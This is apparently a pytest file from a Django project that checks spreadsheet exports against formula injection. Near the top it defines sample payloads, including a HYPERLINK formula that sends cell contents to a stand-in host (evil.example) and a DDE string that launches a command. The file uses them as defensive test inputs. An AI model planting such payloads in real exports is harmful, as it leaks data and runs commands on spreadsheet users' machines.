"""Nothing lost, nothing stalled (issue 20, point 2): no export runs a formula in a spreadsheet.

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or hides one)
to Excel, LibreOffice and Google Sheets. Every export writes it with a quote in front, as OWASP
says: the admin's CSV and XLSX, and the API's `?format=csv`, nested values included. Numbers and
money written as exact decimals ("-5.00") are data and stay as they are; the JSON API answers what
is stored; and an exported file imports back to exactly the values it was exported from.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin
from rest_framework.test import APIClient

from core.imports import TrackerExportMixin
from core.spreadsheets import neutralise, restore
from indicators.models import Observation
from indicators.resources import ObservationResource
from projects.models import Project
from projects.resources import ProjectResource
from tests.factories import ObservationFactory, ProjectFactory, RegionFactory
from tests.test_import_export import CSV_FORMAT, XLSX_FORMAT, confirm, export, row_errors, upload

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
# One text for each way a spreadsheet starts a formula, and texts that look close but are not one.
DANGEROUS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["Plain name", "a=b", "Name - with dash", "'quoted by its author"]


@pytest.fixture
def projects() -> list[Project]:
    """A project for each dangerous name, and one whose author typed a quote before a formula."""
    region = RegionFactory()
    names = [*DANGEROUS, "'=already quoted", "''@twice"]
    return [
        ProjectFactory(slug=f"formula-{n}", name=name, aliases=["=1+1 alias", "plain"], region=region)
        for n, name in enumerate(names)
    ]


def csv_cells(content: bytes) -> dict[str, dict[str, str]]:
    """The rows of an exported CSV, by slug."""
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return {row["slug"]: row for row in rows}


def xlsx_cells(content: bytes) -> dict[str, dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    rows = {}
    for cells in sheet.iter_rows(min_row=2):
        row = dict(zip(header, cells, strict=True))
        rows[row["slug"].value] = row
    return rows


#
# The rule
#


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_starts_a_formula_gets_one_quote_in_front_and_loses_it_again(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", [*HARMLESS, "-5.00", "+12", "-0.5", "", "'", "''"])
def test_other_texts_and_signed_numbers_are_left_as_they_are_both_ways(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", ["'=already quoted", "''@twice", "'-2+3"])
def test_a_quote_typed_by_the_author_before_a_formula_survives_the_round_trip(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", [-5, Decimal("-5.00"), -0.5, None, True])
def test_numbers_and_other_non_texts_are_never_touched(value):
    assert neutralise(value) == value


#
# The admin's exports
#


def test_the_admin_csv_export_quotes_every_text_that_would_start_a_formula(staff, projects):
    rows = csv_cells(export(staff, Project, ProjectResource, "", CSV_FORMAT).content)
    for project in projects:
        row = rows[project.slug]
        assert row["name"] == "'" + project.name
        assert row["aliases"] == "'" + " | ".join(project.aliases)


def test_the_admin_xlsx_export_writes_those_texts_as_quoted_text_never_as_formulas(staff, projects):
    rows = xlsx_cells(export(staff, Project, ProjectResource, "", XLSX_FORMAT).content)
    for project in projects:
        name = rows[project.slug]["name"]
        assert name.data_type == "s"  # text; a formula would be "f"
        assert name.value == "'" + as_in_xlsx(project.name)


def as_in_xlsx(text: str) -> str:
    """XLSX is XML, which keeps a carriage return as a line feed (outside our hands, in any cell)."""
    return text.replace("\r", "\n")


def test_harmless_names_are_exported_unchanged(staff):
    plain = [ProjectFactory(name=name) for name in HARMLESS]
    rows = csv_cells(export(staff, Project, ProjectResource, "", CSV_FORMAT).content)
    assert [rows[project.slug]["name"] for project in plain] == HARMLESS


def test_a_negative_amount_is_exported_as_the_number_it_is_in_csv_and_xlsx(staff):
    observation = ObservationFactory(value=Decimal("-5.0000"), rank_text="-3 places")
    by_csv = export(staff, Observation, ObservationResource, "", CSV_FORMAT).content.decode("utf-8-sig")
    [row] = [row for row in csv.DictReader(io.StringIO(by_csv)) if row["region"] == observation.region.code]
    assert row["value"] == "-5.0000"
    assert row["rank_text"] == "'-3 places"  # a text, even one that starts like a number
    sheet = openpyxl.load_workbook(io.BytesIO(export(staff, Observation, ObservationResource, "", XLSX_FORMAT).content))
    header, *values = list(sheet.active.values)
    [record] = [dict(zip(header, row, strict=True)) for row in values if row[0] == observation.region.code]
    assert record["value"] == "-5.0000"


def test_every_admin_that_exports_neutralises_its_files():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert exporting
    assert all(isinstance(model_admin, TrackerExportMixin) for model_admin in exporting)


#
# Exported, then imported again
#


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_an_exported_file_imports_again_without_changing_a_single_value(staff, projects, file_format):
    content = export(staff, Project, ProjectResource, "", file_format).content
    preview = upload(staff, Project, content, name=f"projects.{'xlsx' if file_format == XLSX_FORMAT else 'csv'}",
                     file_format=file_format)  # fmt: skip
    assert row_errors(preview) == {}
    changed = {row.object_id for row in preview.context["result"].valid_rows() if row.import_type != "skip"}
    # Only a carriage return changes, and only in XLSX (see as_in_xlsx).
    assert changed == ({p.pk for p in projects if "\r" in p.name} if file_format == XLSX_FORMAT else set())


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_exported_rows_imported_as_new_projects_keep_their_names_exactly(staff, projects, file_format):
    content = export(staff, Project, ProjectResource, "", file_format).content
    renamed = rename_slugs(content, file_format)
    confirm(staff, Project, upload(staff, Project, renamed, name="copy", file_format=file_format))
    for project in projects:
        copy = Project.objects.get(slug=f"copy-{project.slug}")
        assert copy.name == (as_in_xlsx(project.name) if file_format == XLSX_FORMAT else project.name)
        assert copy.aliases == project.aliases


def rename_slugs(content: bytes, file_format: str) -> bytes:
    """The exported file, each row a new project: its slug prefixed with "copy-", its version left out."""
    if file_format == CSV_FORMAT:
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        header = rows[0]
        slug, version = header.index("slug"), header.index("version")
        for row in rows[1:]:
            row[slug], row[version] = f"copy-{row[slug]}", ""
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        return out.getvalue().encode()
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    for cells in sheet.iter_rows(min_row=2):
        cells[header.index("slug")].value = f"copy-{cells[header.index('slug')].value}"
        cells[header.index("version")].value = None
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


#
# The API's CSV
#


def api_csv(path: str, query: dict | None = None) -> dict[str, dict[str, str]]:
    response = APIClient().get(f"/api/v1/{path}/", {"format": "csv", **(query or {})})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return {row["slug"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}


def test_the_api_csv_quotes_formulas_in_plain_and_nested_values_and_in_lists(projects):
    region = projects[0].region
    region.name = "@SUM(A1:A9)"
    region.save()
    rows = api_csv("projects")
    for project in projects:
        row = rows[project.slug]
        assert row["name"] == "'" + project.name
        assert row["region.name"] == "'@SUM(A1:A9)"
        assert row["aliases"] == "'" + ";".join(project.aliases)


def test_the_api_csv_leaves_money_and_numbers_as_they_are():
    observation = ObservationFactory(value=Decimal("-5.0000"))
    response = APIClient().get("/api/v1/indicators/", {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8")
    [row] = list(csv.DictReader(io.StringIO(body, newline="")))
    assert row["value"] == "-5.0000"
    assert row["region.code"] == observation.region.code


def test_the_json_api_answers_the_names_exactly_as_stored(projects):
    answer = APIClient().get("/api/v1/projects/", {"page_size": 100}).json()
    names = {row["slug"]: row["name"] for row in answer["results"]}
    assert {project.slug: names[project.slug] for project in projects} == {p.slug: p.name for p in projects}
